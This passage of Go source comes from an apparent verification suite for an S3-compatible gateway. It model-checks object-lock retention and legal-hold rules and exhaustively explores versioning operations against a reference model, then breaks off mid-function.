						sigCtx := fmt.Sprintf("%s | caller-may-bypass-governance=%v", op.Name, bypassOK)
						// legitimate transitions of the model
						if okResp {
							switch op.Kind {
							case "lockconfig":
								ruleDropped = true
							case "policy":
								everyoneBypass = true
							case "hold":
								hold = false
							case "retention":
								targetsP := alive && (currentIsP || (vid != "" && !strings.Contains(op.Name, "by-key")))
								switch {
								case !targetsP:
									// the request changed the retention of another (newer) object under that key
								case stt.Deflt:
									// the protection comes from the bucket default rule; an explicit retention put on the
									// object does not replace it (the data invariant below decides)
								case mode == "COMPLIANCE" && !(op.Mode == "COMPLIANCE" && op.Date == "longer"):
									an = "compliance-retention-weakened"
								case mode == "GOVERNANCE" && !(op.Date == "longer") && !bypassOK:
									an = "governance-retention-weakened-without-bypass"
								default:
									if mode == "GOVERNANCE" && op.Date == "shorter" {
										// authorised bypass: retention now ends in 2 hours — still in the future, still governance
									}
									if mode == "" || mode == "GOVERNANCE" {
										mode = op.Mode
									}
								}
							case "delete-version":
								if protectedBefore && !(mode == "GOVERNANCE" && !hold && bypassOK) {
									// checked through the data invariant below
								} else {
									alive = false
								}
							case "overwrite", "delete-key":
								currentIsP = false
								if vid == "" { // unversioned: the request destroys the only copy
									if !(protectedBefore && !(mode == "GOVERNANCE" && !hold && bypassOK)) {
										alive = false
									}
								}
							case "delete-bucket":
								if !protectedBefore {
									alive = false
								}
							}
						}
						if an != "" {
							r.Violation(ck.JoinSig(stt.Name, verClass(vid), sigCtx, an), map[string]any{"config": fmt.Sprintf("%+v", cfg), "state": stt.Name, "steps": steps})
						}
						// the lock attributes themselves, as the API reports them
						if alive && !stt.Deflt && (currentIsP || vid != "") {
							vqs := ""
							if vid != "" {
								vqs = "&" + gw.Q("versionId", vid)
							}
							if hold {
								lh := w.F.Do(gw.Root, "GET", gw.ObjPath(c10Bucket, c10Key), "legal-hold"+vqs, nil, nil)
								if !lh.OK() || !bytes.Contains(lh.Body, []byte("<Status>ON</Status>")) {
									r.Violation(ck.JoinSig(stt.Name, verClass(vid), sigCtx, "legal-hold-no-longer-reported"), map[string]any{"config": fmt.Sprintf("%+v", cfg), "state": stt.Name, "steps": steps, "observation": lh.String()})
									hold = false
								}
							}
							if mode != "" {
								rt := w.F.Do(gw.Root, "GET", gw.ObjPath(c10Bucket, c10Key), "retention"+vqs, nil, nil)
								if !rt.OK() || !bytes.Contains(rt.Body, []byte("<Mode>"+mode+"</Mode>")) {
									r.Violation(ck.JoinSig(stt.Name, verClass(vid), sigCtx, "retention-no-longer-reported"), map[string]any{"config": fmt.Sprintf("%+v", cfg), "state": stt.Name, "steps": steps, "observation": rt.String(), "model_mode": mode})
									mode = ""
								}
							}
						}
						// data invariant
						if alive {
							if ok, why := c10Intact(w.F, vid); !ok {
								stillProtected := hold || mode == "COMPLIANCE" || (mode == "GOVERNANCE")
								if stillProtected {
									sig := ck.JoinSig(stt.Name, verClass(vid), sigCtx, "protected-version-lost-or-changed")
									if stt.Deflt && ruleDropped {
										// the bucket default rule was dropped earlier in the program: one class per state
										sig = ck.JoinSig(stt.Name, "destroyed-after-the-bucket-default-rule-was-dropped")
									}
									r.Violation(sig, map[string]any{"config": fmt.Sprintf("%+v", cfg), "state": stt.Name, "steps": steps, "observation": why, "step": si})
								}
								alive = false
							}
						}
						r.Outcome(fmt.Sprintf("%s:%d", op.Kind, resp.Status/100))
					}
					r.Distinct(fmt.Sprintf("%d|%s|%v", ci, stt.Name, prog))
					after := w.F.G.Snapshot(gw.SnapOpts{})
					if len(base.Diff(after, 1)) > 0 {
						dirty = true
					}
				}
				if w != nil {
					w.Close()
				}
			}
		}
	})
	r.Sample(map[string]any{"state": "compliance", "program": []string{"PutObjectRetention-shorten-governance by user-with-bypass-permission bypass-header=true", "DeleteObject-by-version by root bypass-header=true"}})
}

func verClass(vid string) string {
	if vid == "" {
		return "no-versioning-dir"
	}
	return "versioned"
}
