package checks

import (
	"bytes"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"time"

	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/s3/types"
	"github.com/versity/versitygw/s3response"

	"verif/ck"
)

func init() { Registry["C09"] = C09 }

const c09Bucket = "vbk"

type c09Ver struct {
	ID     string
	Val    int
	Marker bool
}

type c09Model struct {
	Status string // Enabled | Suspended
	Keys   map[string][]c09Ver
}

func (m *c09Model) clone() *c09Model {
	n := &c09Model{Status: m.Status, Keys: map[string][]c09Ver{}}
	for k, v := range m.Keys {
		n.Keys[k] = append([]c09Ver{}, v...)
	}
	return n
}

// canonical key: ids replaced by symbols in order of first appearance
func (m *c09Model) key() string {
	sym := map[string]string{"null": "null"}
	var ks []string
	for k := range m.Keys {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	var b strings.Builder
	b.WriteString(m.Status + "|")
	for _, k := range ks {
		b.WriteString(k + ":")
		for _, v := range m.Keys[k] {
			if _, ok := sym[v.ID]; !ok {
				sym[v.ID] = fmt.Sprintf("i%d", len(sym))
			}
			fmt.Fprintf(&b, "(%s,%d,%v)", sym[v.ID], v.Val, v.Marker)
		}
		b.WriteString(";")
	}
	return b.String()
}

type c09Op struct {
	Kind string // put delete delete-ver copy copy-ver complete suspend enable
	Key  string
	Val  int
	Sel  string // version selector for delete-ver / copy-ver: newest oldest middle null marker unknown
	Src  string
}

func (o c09Op) String() string {
	switch o.Kind {
	case "put", "complete":
		return fmt.Sprintf("%s(%s,v%d)", o.Kind, o.Key, o.Val)
	case "put-rejected":
		return fmt.Sprintf("put-with-short-body(%s)", o.Key)
	case "complete-rejected":
		return fmt.Sprintf("complete-with-wrong-object-checksum(%s)", o.Key)
	case "delete":
		return "delete(" + o.Key + ")"
	case "delete-ver":
		return fmt.Sprintf("delete(%s,version=%s)", o.Key, o.Sel)
	case "copy":
		return fmt.Sprintf("copy(%s->%s)", o.Src, o.Key)
	case "copy-ver":
		return fmt.Sprintf("copy(%s?version=%s->%s)", o.Src, o.Sel, o.Key)
	}
	return o.Kind
}

func c09Alphabet(thorough bool) []c09Op {
	ops := []c09Op{
		{Kind: "put", Key: "k1", Val: 1},
		{Kind: "put", Key: "k1", Val: 2},
		{Kind: "delete", Key: "k1"},
		{Kind: "delete-ver", Key: "k1", Sel: "newest"},
		{Kind: "delete-ver", Key: "k1", Sel: "oldest"},
		{Kind: "delete-ver", Key: "k1", Sel: "null"},
		{Kind: "delete-ver", Key: "k1", Sel: "unknown"},
		{Kind: "put", Key: "d/k2", Val: 3},
		{Kind: "copy", Key: "d/k2", Src: "k1"},
		{Kind: "complete", Key: "k1", Val: 4},
		{Kind: "put-rejected", Key: "k1", Val: 2},
		{Kind: "complete-rejected", Key: "k1", Val: 2},
		{Kind: "copy-ver", Key: "d/k2", Src: "k1", Sel: "oldest"},
	}
	if thorough {
		ops = append(ops,
			c09Op{Kind: "suspend"}, c09Op{Kind: "enable"},
			c09Op{Kind: "delete-ver", Key: "k1", Sel: "middle"},
			c09Op{Kind: "delete-ver", Key: "k1", Sel: "marker"},
			c09Op{Kind: "copy-ver", Key: "d/k2", Src: "k1", Sel: "newest"},
			c09Op{Kind: "delete", Key: "d/k2"},
		)
	}
	return ops
}

func (m *c09Model) pick(key, sel string) (string, bool) {
	vs := m.Keys[key]
	switch sel {
	case "unknown":
		return "01ARZ3NDEKTSV4RRFFQ69G5FAV", true
	case "null":
		return "null", true
	}
	if len(vs) == 0 {
		return "", false
	}
	switch sel {
	case "newest":
		return vs[0].ID, true
	case "oldest":
		return vs[len(vs)-1].ID, true
	case "middle":
		if len(vs) < 3 {
			return "", false
		}
		return vs[len(vs)/2].ID, true
	case "marker":
		for _, v := range vs {
			if v.Marker {
				return v.ID, true
			}
		}
	}
	return "", false
}

func (m *c09Model) has(key, id string) int {
	for i, v := range m.Keys[key] {
		if v.ID == id {
			return i
		}
	}
	return -1
}

var c09Base = time.Date(2001, 1, 1, 0, 0, 0, 0, time.UTC)

// pinTimes gives every file touched since the last call a logical mtime (one second per step).
func (st *pxStore) pinTimes(step int) {
	t := c09Base.Add(time.Duration(step) * time.Second)
	limit := c09Base.Add(1000000 * time.Second)
	for _, d := range []string{filepath.Join(st.Root, c09Bucket), filepath.Join(st.Ver, c09Bucket)} {
		filepath.WalkDir(d, func(p string, e fs.DirEntry, err error) error {
			if err != nil {
				return nil
			}
			fi, err := e.Info()
			if err == nil && fi.ModTime().After(limit) {
				os.Chtimes(p, t, t)
			}
			return nil
		})
	}
}

type c09Runner struct {
	st   *pxStore
	vals []wval
	r    *ck.Run
}

// apply executes op on the implementation and updates the model according to the statement; returns an anomaly.
func (c *c09Runner) apply(m *c09Model, o c09Op) (anomaly string, skipped bool) {
	st := c.st
	p := st.A
	put := func(key string, val int) (string, error) {
		v := c.vals[val]
		out, err := p.PutObject(st.ctx(), s3response.PutObjectInput{Bucket: sp(c09Bucket), Key: &key, Body: bytes.NewReader(v.Body), ContentLength: i64(int64(len(v.Body))), ContentType: &v.CT, Metadata: map[string]string{"w": v.Meta}})
		return out.VersionID, err
	}
	addWrite := func(key string, val int, vid string) string {
		if m.Status == "Enabled" {
			if vid == "" || vid == "null" {
				return "write-returned-no-version-id"
			}
			if m.has(key, vid) >= 0 {
				return "write-returned-an-existing-version-id"
			}
			m.Keys[key] = append([]c09Ver{{vid, val, false}}, m.Keys[key]...)
		} else {
			if i := m.has(key, "null"); i >= 0 {
				m.Keys[key] = append(m.Keys[key][:i], m.Keys[key][i+1:]...)
			}
			m.Keys[key] = append([]c09Ver{{"null", val, false}}, m.Keys[key]...)
		}
		return ""
	}
	switch o.Kind {
	case "put":
		vid, err := put(o.Key, o.Val)
		if err != nil {
			return "put-failed:" + errClassAPI(err), false
		}
		return addWrite(o.Key, o.Val, vid), false
	case "put-rejected":
		// an upload that must be refused (fewer bytes than declared): the version history must not change
		v := c.vals[o.Val]
		short := v.Body[:len(v.Body)-1]
		_, err := p.PutObject(st.ctx(), s3response.PutObjectInput{Bucket: sp(c09Bucket), Key: &o.Key, Body: bytes.NewReader(short), ContentLength: i64(int64(len(v.Body))), ContentType: &v.CT, Metadata: map[string]string{"w": v.Meta}})
		if err == nil {
			return "short-upload-accepted", false
		}
		return "", false
	case "complete":
		v := c.vals[o.Val]
		res, err := p.CreateMultipartUpload(st.ctx(), s3response.CreateMultipartUploadInput{Bucket: sp(c09Bucket), Key: &o.Key, ContentType: &v.CT, Metadata: map[string]string{"w": v.Meta}})
		if err != nil {
			return "create-mpu-failed:" + errClassAPI(err), false
		}
		up, err := p.UploadPart(st.ctx(), &s3.UploadPartInput{Bucket: sp(c09Bucket), Key: &o.Key, UploadId: &res.UploadId, PartNumber: i32(1), Body: bytes.NewReader(v.Body), ContentLength: i64(int64(len(v.Body)))})
		if err != nil {
			return "upload-part-failed:" + errClassAPI(err), false
		}
		pn := int32(1)
		out, err := p.CompleteMultipartUpload(st.ctx(), &s3.CompleteMultipartUploadInput{Bucket: sp(c09Bucket), Key: &o.Key, UploadId: &res.UploadId,
			MultipartUpload: &types.CompletedMultipartUpload{Parts: []types.CompletedPart{{PartNumber: &pn, ETag: up.ETag}}}})
		if err != nil {
			return "complete-failed:" + errClassAPI(err), false
		}
		return addWrite(o.Key, o.Val, getS(out.VersionId)), false
	case "complete-rejected":
		// a completion that must be refused (the object checksum it states is not the object's): the version history must not change
		v := c.vals[o.Val]
		res, err := p.CreateMultipartUpload(st.ctx(), s3response.CreateMultipartUploadInput{Bucket: sp(c09Bucket), Key: &o.Key, ContentType: &v.CT, Metadata: map[string]string{"w": v.Meta},
			ChecksumAlgorithm: types.ChecksumAlgorithmCrc32, ChecksumType: types.ChecksumTypeFullObject})
		if err != nil {
			return "create-mpu-failed:" + errClassAPI(err), false
		}
		up, err := p.UploadPart(st.ctx(), &s3.UploadPartInput{Bucket: sp(c09Bucket), Key: &o.Key, UploadId: &res.UploadId, PartNumber: i32(1), Body: bytes.NewReader(v.Body), ContentLength: i64(int64(len(v.Body))), ChecksumAlgorithm: types.ChecksumAlgorithmCrc32})
		if err != nil {
			return "upload-part-failed:" + errClassAPI(err), false
		}
		pn := int32(1)
		_, err = p.CompleteMultipartUpload(st.ctx(), &s3.CompleteMultipartUploadInput{Bucket: sp(c09Bucket), Key: &o.Key, UploadId: &res.UploadId, ChecksumCRC32: sp("AAAAAA=="), ChecksumType: types.ChecksumTypeFullObject,
			MultipartUpload: &types.CompletedMultipartUpload{Parts: []types.CompletedPart{{PartNumber: &pn, ETag: up.ETag, ChecksumCRC32: up.ChecksumCRC32}}}})
		if err == nil {
			return "completion-with-wrong-object-checksum-accepted", false
		}
		// the upload is still pending: remove it, so that only the version history is compared
		_ = p.AbortMultipartUpload(st.ctx(), &s3.AbortMultipartUploadInput{Bucket: sp(c09Bucket), Key: &o.Key, UploadId: &res.UploadId})
		return "", false
	case "copy", "copy-ver":
		src := o.Src
		srcVal := -1
		if o.Kind == "copy" {
			if vs := m.Keys[o.Src]; len(vs) > 0 && !vs[0].Marker {
				srcVal = vs[0].Val
			}
		} else {
			id, ok := m.pick(o.Src, o.Sel)
			if !ok {
				return "", true
			}
			src += "?versionId=" + id
			if i := m.has(o.Src, id); i >= 0 && !m.Keys[o.Src][i].Marker {
				srcVal = m.Keys[o.Src][i].Val
			}
		}
		out, err := p.CopyObject(st.ctx(), s3response.CopyObjectInput{Bucket: sp(c09Bucket), Key: &o.Key, CopySource: sp(c09Bucket + "/" + src), ExpectedBucketOwner: sp("acc1"), MetadataDirective: types.MetadataDirectiveCopy})
		if srcVal < 0 {
			if err == nil {
				return "copy-of-missing-or-deleted-source-succeeded", false
			}
			return "", false
		}
		if err != nil {
			return "copy-failed:" + errClassAPI(err), false
		}
		return addWrite(o.Key, srcVal, getS(out.VersionId)), false
	case "delete":
		out, err := p.DeleteObject(st.ctx(), &s3.DeleteObjectInput{Bucket: sp(c09Bucket), Key: &o.Key})
		if err != nil {
			return "delete-failed:" + errClassAPI(err), false
		}
		vs := m.Keys[o.Key]
		isMarker := out.DeleteMarker != nil && *out.DeleteMarker
		vid := getS(out.VersionId)
		if len(vs) == 0 {
			// key never existed / fully deleted: a marker may or may not be created; the answer says which
			if isMarker && vid != "" {
				m.Keys[o.Key] = []c09Ver{{vid, -1, true}}
			}
			return "", false
		}
		if m.Status == "Enabled" {
			if !isMarker || vid == "" || vid == "null" {
				return "delete-without-id-did-not-report-a-fresh-delete-marker", false
			}
			if m.has(o.Key, vid) >= 0 {
				return "delete-marker-reuses-a-version-id", false
			}
			m.Keys[o.Key] = append([]c09Ver{{vid, -1, true}}, vs...)
		} else {
			if i := m.has(o.Key, "null"); i >= 0 {
				vs = append(vs[:i:i], vs[i+1:]...)
			}
			m.Keys[o.Key] = append([]c09Ver{{"null", -1, true}}, vs...)
		}
		return "", false
	case "delete-ver":
		id, ok := m.pick(o.Key, o.Sel)
		if !ok {
			return "", true
		}
		_, err := p.DeleteObject(st.ctx(), &s3.DeleteObjectInput{Bucket: sp(c09Bucket), Key: &o.Key, VersionId: &id})
		i := m.has(o.Key, id)
		if i < 0 {
			// unknown id: an error or a no-op, nothing may change
			return "", false
		}
		if err != nil {
			return "delete-by-version-failed:" + errClassAPI(err), false
		}
		vs := m.Keys[o.Key]
		m.Keys[o.Key] = append(vs[:i:i], vs[i+1:]...)
		if len(m.Keys[o.Key]) == 0 {
			delete(m.Keys, o.Key)
		}
		return "", false
	case "suspend", "enable":
		stt := types.BucketVersioningStatusSuspended
		if o.Kind == "enable" {
			stt = types.BucketVersioningStatusEnabled
		}
		if err := p.PutBucketVersioning(st.ctx(), c09Bucket, stt); err != nil {
			return "set-versioning-failed:" + errClassAPI(err), false
		}
		m.Status = string(stt)
	}
	return "", false
}

// observe compares everything the API shows with the model; returns anomalies.
func (c *c09Runner) observe(m *c09Model) []string {
	st := c.st
	p := st.B
	var an []string
	for _, key := range []string{"k1", "d/k2"} {
		vs := m.Keys[key]
		// GET by key
		o := st.get(p, c09Bucket, key, c.vals)
		wantAbsent := len(vs) == 0 || vs[0].Marker
		switch {
		case o.Err != "":
			an = append(an, "get-by-key-error:"+errClass(o.Err))
		case wantAbsent != o.Absent:
			an = append(an, fmt.Sprintf("get-by-key:expected-absent=%v", wantAbsent))
		case !wantAbsent && (o.Body != vs[0].Val || o.Meta != vs[0].Val || o.CT != vs[0].Val || (o.ETag != vs[0].Val)):
			an = append(an, fmt.Sprintf("get-by-key:wrong-content(body=%s,etag=%s,meta=%s)", vname(o.Body), vname(o.ETag), vname(o.Meta)))
		}
		// GET / HEAD by version id
		for vi, v := range vs {
			out, err := p.GetObject(st.ctx(), &s3.GetObjectInput{Bucket: sp(c09Bucket), Key: &key, VersionId: &v.ID, Range: sp("")})
			pos := "older"
			if vi == 0 {
				pos = "current"
			}
			idk := "id"
			if v.ID == "null" {
				idk = "null"
			}
			if v.Marker {
				if err == nil {
					out.Body.Close()
					an = append(an, "get-by-version:delete-marker-returned-data")
				}
				continue
			}
			if err != nil {
				an = append(an, fmt.Sprintf("get-by-version(%s,%s):%s", pos, idk, errClassAPI(err)))
				continue
			}
			body, _ := io.ReadAll(out.Body)
			out.Body.Close()
			ob := identify(c.vals, body, true, getS(out.ETag), out.Metadata["w"], getS(out.ContentType), getI(out.ContentLength))
			if ob.Body != v.Val || ob.ETag != v.Val || ob.Meta != v.Val || ob.CT != v.Val {
				an = append(an, fmt.Sprintf("get-by-version(%s,%s):wrong-content(body=%s,etag=%s,meta=%s,want=%s)", pos, idk, vname(ob.Body), vname(ob.ETag), vname(ob.Meta), vname(v.Val)))
			}
			if got := getS(out.VersionId); got != v.ID {
				an = append(an, fmt.Sprintf("get-by-version(%s,%s):reports-other-version-id", pos, idk))
			}
			hd, err := p.HeadObject(st.ctx(), &s3.HeadObjectInput{Bucket: sp(c09Bucket), Key: &key, VersionId: &v.ID})
			if err != nil {
				an = append(an, fmt.Sprintf("head-by-version(%s,%s):%s", pos, idk, errClassAPI(err)))
			} else if getI(hd.ContentLength) != int64(len(c.vals[v.Val].Body)) || !etagIs(getS(hd.ETag), c.vals[v.Val]) {
				an = append(an, fmt.Sprintf("head-by-version(%s,%s):wrong-size-or-etag", pos, idk))
			}
		}
	}
	// plain listings show exactly the keys whose newest entry is an object (a delete marker hides its key)
	{
		var wantKeys []string
		for k, vs := range m.Keys {
			if len(vs) > 0 && !vs[0].Marker {
				wantKeys = append(wantKeys, k)
			}
		}
		sort.Strings(wantKeys)
		empty := ""
		mx := int32(1000)
		var v1, v2 []string
		if l1, err := p.ListObjects(st.ctx(), &s3.ListObjectsInput{Bucket: sp(c09Bucket), Prefix: &empty, Delimiter: &empty, Marker: &empty, MaxKeys: &mx}); err != nil {
			an = append(an, "list-objects-error:"+errClassAPI(err))
		} else {
			for _, o := range l1.Contents {
				v1 = append(v1, getS(o.Key))
			}
			sort.Strings(v1)
			if strings.Join(v1, ",") != strings.Join(wantKeys, ",") {
				an = append(an, "list-objects:shows-other-keys-than-those-with-a-current-object")
			}
		}
		if l2, err := p.ListObjectsV2(st.ctx(), &s3.ListObjectsV2Input{Bucket: sp(c09Bucket), Prefix: &empty, Delimiter: &empty, StartAfter: &empty, ContinuationToken: &empty, MaxKeys: &mx}); err != nil {
			an = append(an, "list-objects-v2-error:"+errClassAPI(err))
		} else {
			for _, o := range l2.Contents {
				v2 = append(v2, getS(o.Key))
			}
			sort.Strings(v2)
			if strings.Join(v2, ",") != strings.Join(wantKeys, ",") {
				an = append(an, "list-objects-v2:shows-other-keys-than-those-with-a-current-object")
			}
		}
	}
	// ListObjectVersions with every page size
	var want []string
	var ks []string
	for k := range m.Keys {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	for _, k := range ks {
		for i, v := range m.Keys[k] {
			want = append(want, fmt.Sprintf("%s|%s|marker=%v|latest=%v|v%d", k, v.ID, v.Marker, i == 0, v.Val))
		}
	}
	for _, max := range []int32{1, 2, 1000} {
		var got []string
		km, vm := "", ""
		empty := ""
		pages := 0
		for {
			mx := max
			lv, err := p.ListObjectVersions(st.ctx(), &s3.ListObjectVersionsInput{Bucket: sp(c09Bucket), Prefix: &empty, Delimiter: &empty, KeyMarker: &km, VersionIdMarker: &vm, MaxKeys: &mx})
			if err != nil {
				an = append(an, "list-versions-error:"+errClassAPI(err))
				break
			}
			pages++
			// merge versions and markers in the order: per key newest first — the two lists are separate in the API; rebuild by key
			type ent struct {
				s   string
				key string
			}
			var es []ent
			for _, v := range lv.Versions {
				val := -1
				for _, w := range c.vals {
					if etagIs(getS(v.ETag), w) && getI(v.Size) == int64(len(w.Body)) {
						val = w.ID
					}
				}
				es = append(es, ent{fmt.Sprintf("%s|%s|marker=false|latest=%v|v%d", getS(v.Key), getS(v.VersionId), v.IsLatest != nil && *v.IsLatest, val), getS(v.Key)})
			}
			for _, d := range lv.DeleteMarkers {
				es = append(es, ent{fmt.Sprintf("%s|%s|marker=true|latest=%v|v-1", getS(d.Key), getS(d.VersionId), d.IsLatest != nil && *d.IsLatest), getS(d.Key)})
			}
			if int32(len(es)) > max {
				an = append(an, "list-versions:page-exceeds-max-keys")
			}
			for _, e := range es {
				got = append(got, e.s)
			}
			if lv.IsTruncated == nil || !*lv.IsTruncated {
				break
			}
			km, vm = getS(lv.NextKeyMarker), getS(lv.NextVersionIdMarker)
			if pages > len(want)+3 {
				an = append(an, "list-versions:pagination-does-not-terminate")
				break
			}
		}
		// compare as multisets per key with order among same-kind entries (the API returns versions and markers in two lists)
		if a := c09CompareListing(want, got); a != "" {
			an = append(an, fmt.Sprintf("list-versions(max-keys=%d):%s", max, a))
		}
	}
	return dedup(an)
}

func etagIs(etag string, v wval) bool { return etag == v.ETag || etag == mpETag(v.Body) }

func c09CompareListing(want, got []string) string {
	ws, gs := map[string]int{}, map[string]int{}
	for _, w := range want {
		ws[w]++
	}
	for _, g := range got {
		gs[g]++
	}
	for w := range ws {
		if gs[w] == 0 {
			f := strings.Split(w, "|")
			// is an entry with the same key+id present with other attributes?
			for g := range gs {
				gf := strings.Split(g, "|")
				if gf[0] == f[0] && gf[1] == f[1] {
					var diff []string
					for i := 2; i < 5; i++ {
						if gf[i] != f[i] {
							diff = append(diff, strings.SplitN(f[i], "=", 2)[0])
						}
					}
					return "entry-with-wrong-" + strings.Join(diff, "+")
				}
			}
			return "missing-version(marker=" + strings.TrimPrefix(f[2], "marker=") + ")"
		}
	}
	for g, n := range gs {
		if ws[g] == 0 {
			return "unexpected-entry"
		}
		if n > 1 {
			return "duplicate-entry"
		}
	}
	// order: within the same key and kind, newest first
	pos := map[string]int{}
	for i, w := range want {
		pos[w] = i
	}
	last := map[string]int{}
	for _, g := range got {
		f := strings.Split(g, "|")
		k := f[0] + "|" + f[2]
		if p, ok := last[k]; ok && pos[g] < p {
			return "wrong-order-within-key"
		}
		last[k] = pos[g]
	}
	return ""
}

func C09(r *ck.Run) {
	depth := 4
	if r.Thorough() {
		depth = 5
	}
	r.Rule(fmt.Sprintf("breadth-first search over every program of length <= %d of put / refused put (short body) / refused multipart completion (wrong object checksum) / delete / delete-by-version (newest, oldest, middle, null, a delete marker, unknown id) / copy / copy-by-version / multipart-complete / suspend / enable on two keys, from a fresh versioning-enabled bucket, from a bucket whose object predates enabling (null version) from a bucket whose key has a version plus a newer null version written while suspended, from a Suspended bucket whose key has a version, and from a bucket whose key has a version, a null delete marker written while suspended and a newer version (and, beside those, a null version that superseded that marker), on a real posix backend with versioning directory (xattr and sidecar metadata); a state is the shortest program reaching it, successors are computed by replay, states are deduplicated on (reference version model with ids canonicalised, file counts); after EVERY step a second backend instance checks GET by key, ListObjects / ListObjectsV2 (exactly the keys whose newest entry is an object), GET and HEAD by every version id, and ListObjectVersions with max-keys 1, 2, 1000 following the returned markers against the reference model; plus paged ListObjectVersions walks (max-keys 1, 2, 3) over key sets in which a sibling sorts before '/' with null versions, id versions and both: the walk ends and yields every version exactly once; distinct = distinct state", depth))
	r.Assume("operations are at least one clock tick apart (file mtimes are pinned to a logical clock after each step); a DELETE without id of a key that has no versions may or may not create a marker (the answer says which); deleting an unknown version id may fail or be a no-op")
	cfgs := []pxCfg{{Versioning: true}, {Versioning: true, Sidecar: true}}
	if r.Thorough() {
		cfgs = append(cfgs, pxCfg{Versioning: true, NoTmp: true}, pxCfg{Versioning: true, NoTmp: true, Sidecar: true})
	}
	alpha := c09Alphabet(r.Thorough())
	vals := []wval{mkval(0), mkval(1), mkval(2), mkval(3), mkval(4)}
	r.Sharded(16, func() {
		for ci, cfg := range cfgs {
			st := newPxStore("c09", cfg)
			c := &c09Runner{st: st, vals: vals, r: r}
			if r.ShardI <= 0 {
				c09ListingTraps(r, st, cfg.String())
			}
			for start := 0; start < 6; start++ {
				type node struct{ hist []int }
				// replay returns the model after hist, or ok=false if an anomaly was reported on the way
				replay := func(hist []int) (*c09Model, string, bool) {
					st.wipe()
					acl := []byte(`{"Owner":"acc1","Grantees":[]}`)
					if err := st.A.CreateBucket(st.ctx(), &s3.CreateBucketInput{Bucket: sp(c09Bucket)}, acl); err != nil {
						ck.Fatal("create bucket: %v", err)
					}
					m := &c09Model{Status: "Enabled", Keys: map[string][]c09Ver{}}
					if start == 1 {
						if err := st.put(st.A, c09Bucket, "k1", vals[0]); err != nil {
							ck.Fatal("seed: %v", err)
						}
						m.Keys["k1"] = []c09Ver{{"null", 0, false}}
					}
					st.pinTimes(0)
					if err := st.A.PutBucketVersioning(st.ctx(), c09Bucket, types.BucketVersioningStatusEnabled); err != nil {
						ck.Fatal("enable: %v", err)
					}
					if start == 2 {
						// k1: a version written while Enabled, then a null version written while Suspended
						// (newer than that version), then Enabled again
						out, err := st.A.PutObject(st.ctx(), s3response.PutObjectInput{Bucket: sp(c09Bucket), Key: sp("k1"), Body: bytes.NewReader(vals[0].Body), ContentLength: i64(int64(len(vals[0].Body))), ContentType: &vals[0].CT, Metadata: map[string]string{"w": vals[0].Meta}})
						if err != nil || out.VersionID == "" {
							ck.Fatal("seed version: %v", err)
						}
						st.pinTimes(-2)
						if err := st.A.PutBucketVersioning(st.ctx(), c09Bucket, types.BucketVersioningStatusSuspended); err != nil {
							ck.Fatal("suspend: %v", err)
						}
						if err := st.put(st.A, c09Bucket, "k1", vals[3]); err != nil {
							ck.Fatal("seed null: %v", err)
						}
						st.pinTimes(-1)
						if err := st.A.PutBucketVersioning(st.ctx(), c09Bucket, types.BucketVersioningStatusEnabled); err != nil {
							ck.Fatal("re-enable: %v", err)
						}
						m.Keys["k1"] = []c09Ver{{"null", 3, false}, {out.VersionID, 0, false}}
					}
					if start == 3 {
						// k1 has a version written while Enabled; the bucket is then Suspended and stays so
						out, err := st.A.PutObject(st.ctx(), s3response.PutObjectInput{Bucket: sp(c09Bucket), Key: sp("k1"), Body: bytes.NewReader(vals[0].Body), ContentLength: i64(int64(len(vals[0].Body))), ContentType: &vals[0].CT, Metadata: map[string]string{"w": vals[0].Meta}})
						if err != nil || out.VersionID == "" {
							ck.Fatal("seed version: %v", err)
						}
						st.pinTimes(-1)
						if err := st.A.PutBucketVersioning(st.ctx(), c09Bucket, types.BucketVersioningStatusSuspended); err != nil {
							ck.Fatal("suspend: %v", err)
						}
						m.Status = "Suspended"
						m.Keys["k1"] = []c09Ver{{out.VersionID, 0, false}}
					}
					if start == 4 || start == 5 {
						// k1: a version written while Enabled, a null delete marker written while Suspended, and a
						// newer version written after re-enabling (the null marker is kept among the stored versions)
						out, err := st.A.PutObject(st.ctx(), s3response.PutObjectInput{Bucket: sp(c09Bucket), Key: sp("k1"), Body: bytes.NewReader(vals[0].Body), ContentLength: i64(int64(len(vals[0].Body))), ContentType: &vals[0].CT, Metadata: map[string]string{"w": vals[0].Meta}})
						if err != nil || out.VersionID == "" {
							ck.Fatal("seed version: %v", err)
						}
						st.pinTimes(-4)
						if err := st.A.PutBucketVersioning(st.ctx(), c09Bucket, types.BucketVersioningStatusSuspended); err != nil {
							ck.Fatal("suspend: %v", err)
						}
						if _, err := st.A.DeleteObject(st.ctx(), &s3.DeleteObjectInput{Bucket: sp(c09Bucket), Key: sp("k1")}); err != nil {
							ck.Fatal("seed null marker: %v", err)
						}
						st.pinTimes(-3)
						if err := st.A.PutBucketVersioning(st.ctx(), c09Bucket, types.BucketVersioningStatusEnabled); err != nil {
							ck.Fatal("re-enable: %v", err)
						}
						out2, err := st.A.PutObject(st.ctx(), s3response.PutObjectInput{Bucket: sp(c09Bucket), Key: sp("k1"), Body: bytes.NewReader(vals[1].Body), ContentLength: i64(int64(len(vals[1].Body))), ContentType: &vals[1].CT, Metadata: map[string]string{"w": vals[1].Meta}})
						if err != nil || out2.VersionID == "" {
							ck.Fatal("seed second version: %v", err)
						}
						st.pinTimes(-2)
						m.Keys["k1"] = []c09Ver{{out2.VersionID, 1, false}, {"null", -1, true}, {out.VersionID, 0, false}}
						if start == 5 {
							// ... and then a null version written while Suspended, which supersedes the stored null marker
							if err := st.A.PutBucketVersioning(st.ctx(), c09Bucket, types.BucketVersioningStatusSuspended); err != nil {
								ck.Fatal("suspend: %v", err)
							}
							if err := st.put(st.A, c09Bucket, "k1", vals[3]); err != nil {
								ck.Fatal("seed null version: %v", err)
							}
							if err := st.A.PutBucketVersioning(st.ctx(), c09Bucket, types.BucketVersioningStatusEnabled); err != nil {
								ck.Fatal("re-enable: %v", err)
							}
							st.pinTimes(-1)
							m.Keys["k1"] = []c09Ver{{"null", 3, false}, {out2.VersionID, 1, false}, {out.VersionID, 0, false}}
						}
					}
					report := func(i int, an string) {
						var names []string
						for _, h := range hist[:i+1] {
							names = append(names, alpha[h].String())
						}
						last := "start"
						if i >= 0 {
							last = alpha[hist[i]].Kind
							if alpha[hist[i]].Sel != "" {
								last += "(" + alpha[hist[i]].Sel + ")"
							}
						}
